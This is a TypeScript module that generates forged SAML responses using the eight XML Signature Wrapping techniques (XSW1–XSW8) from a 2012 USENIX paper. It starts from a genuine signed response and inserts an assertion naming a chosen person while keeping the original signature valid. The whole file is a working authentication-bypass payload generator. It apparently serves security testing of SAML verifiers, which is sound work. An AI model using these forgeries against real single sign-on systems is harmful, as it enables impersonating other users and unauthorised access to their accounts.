/**
 * Signature wrapping: the eight ways of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012),
 * made from a genuine response. Each keeps the signed element somewhere, so that the signature holds, and puts an assertion about
 * somebody else where a careless reader looks.
 */

/** Takes a response (XML) whose assertion is signed, and for XSW1 and XSW2 the response too. */
export type Wrapping = (genuine: string, person: string) => string;

interface Parts {
  readonly assertion: string;
  /** Of the assertion. */
  readonly signature: string;
  /** The assertion without its signature. */
  readonly bare: string;
}

function partsOf(xml: string): Parts {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? "";
  const signature = /<Signature[\s\S]*<\/Signature>/.exec(assertion)?.[0] ?? "";
  if (signature === "") throw new Error("the assertion is not signed");
  return { assertion, signature, bare: assertion.replace(signature, "") };
}

/** The same assertion about somebody else, under another id. */
function evil(assertion: string, person: string): string {
  return assertion
    .replace(/(<saml:Assertion[^>]* ID=")[^"]+/, "$1_evil")
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${person}`);
}

/** Puts `inner` before the last end tag of `name`. */
function into(xml: string, name: string, inner: string): string {
  const at = xml.lastIndexOf(`</${name}>`);
  return xml.slice(0, at) + inner + xml.slice(at);
}

function responseParts(xml: string, person: string): { original: string; signature: string; forged: string } {
  const withoutAssertion = xml.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, "");
  const signature = /<Signature[\s\S]*<\/Signature>/.exec(withoutAssertion)?.[0] ?? "";
  if (signature === "") throw new Error("the response is not signed");
  const original = xml.replace(signature, "");
  const forged = evil(original, person).replace(/(<samlp:Response[^>]* ID=")[^"]+/, "$1_evilresponse");
  return { original, signature, forged };
}

export const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  "XSW1: the signed response inside of its signature, in a forged response": (xml, person) => {
    const { original, signature, forged } = responseParts(xml, person);
    return into(forged, "samlp:Response", into(signature, "Signature", original));
  },
  "XSW2: the signed response beside its signature, in a forged response": (xml, person) => {
    const { original, signature, forged } = responseParts(xml, person);
    return into(forged, "samlp:Response", original + signature);
  },
  "XSW3: a forged assertion before the signed one": (xml, person) => {
    const { assertion, bare } = partsOf(xml);
    return xml.replace(assertion, () => evil(bare, person) + assertion);
  },
  "XSW4: the signed assertion inside of a forged one": (xml, person) => {
    const { assertion, bare } = partsOf(xml);
    return xml.replace(assertion, () => into(evil(bare, person), "saml:Assertion", assertion));
  },
  "XSW5: the signature in a forged assertion, the signed one at the end": (xml, person) => {
    const { assertion, bare } = partsOf(xml);
    return xml.replace(assertion, () => evil(assertion, person) + bare);
  },
  "XSW6: the signed assertion inside of the signature of a forged one": (xml, person) => {
    const { assertion, signature, bare } = partsOf(xml);
    return xml.replace(assertion, () =>
      evil(assertion, person).replace(signature, () => into(signature, "Signature", bare)),
    );
  },
  "XSW7: a forged assertion in Extensions, before the signed one": (xml, person) => {
    const { assertion, bare } = partsOf(xml);
    return xml.replace(assertion, () => `<samlp:Extensions>${evil(bare, person)}</samlp:Extensions>${assertion}`);
  },
  "XSW8: the signed assertion in an Object of the signature of a forged one": (xml, person) => {
    const { assertion, signature, bare } = partsOf(xml);
    const wrapped = into(signature, "Signature", `<Object>${bare}</Object>`);
    return xml.replace(assertion, () => evil(assertion, person).replace(signature, () => wrapped));
  },
};
